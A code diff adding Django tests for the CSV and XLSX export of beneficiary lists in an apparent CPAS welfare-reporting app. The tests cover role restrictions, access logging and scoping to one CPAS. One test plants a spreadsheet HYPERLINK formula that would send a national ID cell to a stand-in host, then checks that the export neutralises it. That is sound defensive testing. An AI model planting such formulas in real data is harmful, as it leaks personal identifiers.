@@ -367,3 +367,97 @@ def test_people_behind_a_number_are_logged(donnees, cpas_a, make_user, client_fo
     assert shown == [personnes[0].pk] and response.context["masques"] == 7
     row = JournalAcces.objects.filter(user=agent).latest("id")
     assert sorted(row.personnes) == shown
+
+
+# --- Exports of the lists behind the numbers ----------------------------------------------
+
+
+def _liste_url(**extra):
+    from urllib.parse import urlencode
+
+    params = {"indicateur": "ris_eris", "date": timezone.localdate().isoformat(), **extra}
+    return reverse("rapports:personnes") + "?" + urlencode(params)
+
+
+def _csv(response):
+    return b"".join(response.streaming_content).decode().lstrip("\ufeff").splitlines()
+
+
+def _lignes_de_la_page(client, **params):
+    """Every row of the list page (all its pages), as its three columns show them."""
+    lignes, numero = [], 1
+    while True:
+        page = client.get(_liste_url(page=numero, **params)).context["page"]
+        for b in page.object_list:
+            lignes.append([str(b), b.niss_affiche, str(b.referent) if b.referent_id else "—"])
+        if not page.has_next():
+            return lignes
+        numero += 1
+
+
+def test_coordinator_exports_the_list_behind_a_number(donnees, cpas_a, make_user, client_for):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from cpas_isp.models import JournalAcces
+
+    _agent, personnes = donnees
+    personnes[0].nom = '=HYPERLINK("http://x.example/?"&B2,"Voir")'
+    personnes[0].save()
+    coordinateur = make_user(Role.COORDINATEUR, cpas_a)
+    client = client_for(coordinateur)
+    assert 'id="export-personnes"' in client.get(_liste_url()).content.decode()
+    page = [[c if c != "—" else "" for c in ligne] for ligne in _lignes_de_la_page(client)]
+    assert len(page) == 8
+
+    avant = JournalAcces.objects.count()
+    rangs = list(csv.reader(_csv(client.get(_liste_url(format="csv"))), delimiter=";"))
+    assert rangs[0] == ["Nom", "NISS", "Référent"]
+    neutralise = [["'" + n if n.startswith("=") else n, *reste] for n, *reste in page]
+    assert rangs[1:] == neutralise  # the page's rows, the formula made plain text
+    assert any(r[0].startswith("'=HYPERLINK") for r in rangs)
+    # One access-log row naming every exported person.
+    assert JournalAcces.objects.count() == avant + 1
+    journal = JournalAcces.objects.filter(user=coordinateur).latest("id")
+    assert sorted(journal.personnes) == sorted(b.pk for b in personnes)
+    assert "export CSV" in journal.objet
+
+    xlsx = client.get(_liste_url(format="xlsx"))
+    ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    rows = [list(r) for r in ws.iter_rows(values_only=True)]
+    assert rows[0] == ["Nom", "NISS", "Référent"]
+    assert rows[1:] == [[c or None for c in ligne] for ligne in page]
+    formule = next(c for c in ws["A"] if str(c.value).startswith("="))
+    assert formule.data_type == "s" and formule.quotePrefix  # text, never a formula
+
+
+@pytest.mark.parametrize("role", [Role.AGENT, Role.DIRECTEUR, Role.ADMIN, Role.PARTENAIRE])
+def test_other_roles_cannot_export_the_list_behind_a_number(
+    donnees, cpas_a, make_user, client_for, role
+):
+    from cpas_isp.models import JournalAcces
+
+    user = make_user(role, cpas_a, cellule="emploi" if role == Role.AGENT else None)
+    client = client_for(user)
+    if role == Role.AGENT:  # sees the list, without the export buttons
+        html = client.get(_liste_url()).content.decode()
+        assert 'id="liste-personnes"' in html and 'id="export-personnes"' not in html
+    avant = JournalAcces.objects.filter(user=user).count()
+    for format in ("csv", "xlsx"):
+        response = client.get(_liste_url(format=format))
+        assert response.status_code in (403, 404)
+        assert not response.has_header("Content-Disposition")
+    assert JournalAcces.objects.filter(user=user).count() == avant
+
+
+def test_export_of_the_list_keeps_the_need_to_know_scope(
+    donnees, cpas_a, cpas_b, make_user, client_for
+):
+    """The coordinator of another CPAS exports their own CPAS's people, never cpas_a's."""
+    _peupler(cpas_b, 3)
+    client = client_for(make_user(Role.COORDINATEUR, cpas_b))
+    lignes = _csv(client.get(_liste_url(format="csv")))
+    assert {ligne.split(";")[1] for ligne in lignes[1:]} == {
+        b.niss_affiche for b in cpas_b.beneficiaires.all()
+    }
